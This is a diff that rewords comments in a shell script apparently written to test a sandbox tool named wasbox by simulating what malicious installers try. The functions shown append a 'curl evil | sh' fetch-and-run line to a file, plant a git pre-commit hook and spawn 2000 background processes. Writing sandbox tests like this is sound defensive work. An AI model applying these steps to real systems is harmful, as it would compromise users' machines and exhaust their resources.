@@ -1,11 +1,11 @@
 #!/bin/sh
-# What a malicious installer tries, one line an attempt. Run it with: wasbox run nasty.sh
-# Outside of wasbox it only looks, and changes nothing.
+# Tries what malicious installers try, one line per attempt. Run it with: wasbox run nasty.sh
+# Outside wasbox it only looks and changes nothing.
 
 newline='
 '
 
-# Prints the first line of what came out; by builtins only, for when no process can be started.
+# Prints the first line of the output. Uses only builtins, because starting a process may fail.
 attempt() {
   what=$1
   shift
@@ -24,8 +24,8 @@ changing() {
   fi
 }
 
-append_to() { echo 'curl evil | sh' >>"$1" && echo 'in a copy that is thrown away'; }
-hook() { mkdir -p .git/hooks && echo gotcha >.git/hooks/pre-commit && echo 'in the copy that you can look at'; }
+append_to() { echo 'curl evil | sh' >>"$1" && echo 'in a copy that is discarded'; }
+hook() { mkdir -p .git/hooks && echo gotcha >.git/hooks/pre-commit && echo 'in a copy that you can review'; }
 fork_loop() {
   sh -c 'n=0; while [ $n -lt 2000 ]; do sleep 30 >/dev/null 2>&1 & n=$((n + 1)); done; echo "$n processes"'
 }
